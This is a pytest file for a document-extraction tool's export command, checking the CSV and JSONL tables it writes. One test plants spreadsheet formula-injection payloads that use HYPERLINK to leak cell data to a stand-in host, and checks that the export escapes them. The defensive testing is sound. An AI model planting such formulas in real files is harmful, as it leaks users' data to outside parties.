"""`extractor export`: one table per item type from a batch's outputs."""

from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from extractor.cli import cli
from extractor.export import TABLES, columns
from extractor.extract import extract
from extractor.model import (
    Anchor,
    CharSpan,
    Citation,
    Claim,
    CostFigure,
    Example,
    Extraction,
    PageRef,
    Review,
)
from extractor.schema import validation_error
from tests.batch_helpers import make_pdf

# One text per page; each quoted phrase is on one line of its page.
PAGE_TEXTS = [
    "Brent Council answered 4,000 questions on Twitter.\nCall it personal media.",
    "Councils moved services online.\nA face-to-face contact costs several pounds\n"
    "and a web transaction pennies.",
    "1 Call it personal media. Local by Social, 2010.",
]


def span_of(result: Extraction, page_index: int, phrase: str) -> tuple[PageRef, str, CharSpan]:
    page = result.pages[page_index - 1]
    assert page.text is not None
    start = page.text.index(phrase)
    return PageRef(page.index, page.label), phrase, CharSpan(start, start + len(phrase))


def with_items(result: Extraction) -> Extraction:
    """The extraction of a built PDF, with one item of each type quoting its pages."""
    ref, quote, span = span_of(result, 2, "A face-to-face contact costs several pounds")
    cost = CostFigure(
        f"cost-2-{span.start}", ref, quote, span, "several pounds", 3.0, None, "GBP",
        "per contact", "a face-to-face contact", "several", "cost",
    )  # fmt: skip
    ref, quote, span = span_of(result, 1, "Brent Council answered 4,000 questions on Twitter.")
    example = Example(
        f"ex-1-{span.start}", ref, (ref,), quote, span, "Brent Council", "example",
        ("Brent Council",), ("Brent",), ("Twitter",), "Brent answers questions on Twitter.",
        ("answered",), review=Review("accepted", "checked against the PDF"),
    )  # fmt: skip
    ref, quote, span = span_of(result, 1, "Call it personal media.")
    claim = Claim(
        f"claim-1-{span.start}", ref, quote, span, quote, "definition", False, ("call it",),
        (), (cost.id,),
    )  # fmt: skip
    ref, quote, span = span_of(result, 3, "Call it personal media.")
    citation = Citation(
        f"cit-3-{span.start}", ref, quote, span, "footnote", "1", quote, None, (claim.id,),
        (Anchor(ref, span),),
    )  # fmt: skip
    return dataclasses.replace(
        result, cost_figures=(cost,), examples=(example,), claims=(claim,), citations=(citation,)
    )


@pytest.fixture
def batch_dir(tmp_path: Path, nlp: Any) -> Path:
    """A folder like a batch's: two extraction outputs with items, a manifest, a stray file."""
    out = tmp_path / "out"
    out.mkdir()
    for name in ("alpha", "beta"):
        result = with_items(extract(make_pdf(tmp_path / f"{name}.pdf", PAGE_TEXTS), nlp=nlp))
        assert validation_error(result.to_dict()) is None
        (out / f"{name}.json").write_text(result.to_json(), encoding="utf-8")
    (out / "manifest.jsonl").write_text("{}\n", encoding="utf-8")
    return out


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_tables_have_one_row_per_item_with_page_and_quote(
    batch_dir: Path, tmp_path: Path
) -> None:
    tables = tmp_path / "tables"
    result = CliRunner().invoke(cli, ["export", str(batch_dir), "-o", str(tables)])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "2 files: 2 cost_figures, 2 examples, 2 claims, 2 citations"
    for table in TABLES:
        rows = read_csv(tables / f"{table}.csv")
        assert len(rows) == 2
        assert list(rows[0]) == list(columns(table))
        assert [Path(row["file"]).name for row in rows] == ["alpha.pdf", "beta.pdf"]
        for row in rows:
            source = json.loads((batch_dir / row["output"]).read_text(encoding="utf-8"))
            page = source["pages"][int(row["page_index"]) - 1]
            start, end = int(row["char_start"]), int(row["char_end"])
            assert page["text"][start:end] == row["quote"]
            assert row["page_label"] == (page["label"] or "")
    cost = read_csv(tables / "cost_figures.csv")[0]
    assert (cost["amount"], cost["currency"], cost["unit"]) == ("3.0", "GBP", "per contact")
    example = read_csv(tables / "examples.csv")[0]
    assert example["platforms"] == "Twitter"
    assert (example["review_status"], example["review_comment"]) == (
        "accepted",
        "checked against the PDF",
    )
    assert json.loads(example["pages"])[0]["index"] == 1
    claim = read_csv(tables / "claims.csv")[0]
    assert claim["hedged"] == "false" and claim["cost_figure_ids"].startswith("cost-2-")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    batch_dir: Path, tmp_path: Path
) -> None:
    formula = 'HYPERLINK("http://example.com/?leak="&A1, "open")'
    planted = {
        ("claims", "quote"): "=" + formula,
        ("claims", "text"): "+" + formula,
        ("examples", "name"): "-" + formula,
        ("examples", "summary"): "@" + formula,
        ("cost_figures", "raw"): "\t=" + formula,
        ("citations", "text"): "\r=" + formula,
    }
    path = batch_dir / "alpha.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    for (table, name), value in planted.items():
        data[table][0][name] = value
    path.write_text(json.dumps(data), encoding="utf-8")
    for fmt in ("csv", "jsonl"):
        args = ["export", str(batch_dir), "--format", fmt, "-o", str(tmp_path / fmt)]
        assert CliRunner().invoke(cli, args).exit_code == 0
    for (table, name), value in planted.items():
        assert read_csv(tmp_path / "csv" / f"{table}.csv")[0][name] == "'" + value
        line = (tmp_path / "jsonl" / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()[0]
        assert json.loads(line)[name] == value  # JSON Lines are data, not a spreadsheet
    cost = read_csv(tmp_path / "csv" / "cost_figures.csv")[0]
    assert (cost["amount"], cost["char_start"]) == (
        "3.0",
        str(data["cost_figures"][0]["char_span"]["start"]),
    )


def test_jsonl_tables_keep_lists_as_lists(batch_dir: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(batch_dir), "--format", "jsonl"])
    assert result.exit_code == 0
    rows = [
        json.loads(line)
        for line in (batch_dir / "examples.jsonl").read_text(encoding="utf-8").splitlines()
    ]
    assert len(rows) == 2
    assert rows[0]["platforms"] == ["Twitter"]
    assert rows[0]["quote"] == "Brent Council answered 4,000 questions on Twitter."
    assert list(rows[0]) == list(columns("examples"))


def test_files_that_are_not_outputs_are_named_and_left_out(batch_dir: Path) -> None:
    (batch_dir / "notes.json").write_text('{"hello": "world"}', encoding="utf-8")
    (batch_dir / "broken.json").write_text('{"schema_version', encoding="utf-8")
    result = CliRunner().invoke(cli, ["export", str(batch_dir)])
    assert result.exit_code == 3
    assert "2 files: 2 cost_figures" in result.stdout
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 3
    assert "notes.json: not an extraction output" in errors[1]
    assert "broken.json: not readable JSON" in errors[0]
    assert len(read_csv(batch_dir / "claims.csv")) == 2


def test_export_of_a_missing_folder_fails_cleanly(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["export", str(tmp_path / "nope")])
    assert result.exit_code == 4
    assert result.stderr.strip() == f"Error: {tmp_path / 'nope'}: is not a folder of batch outputs"
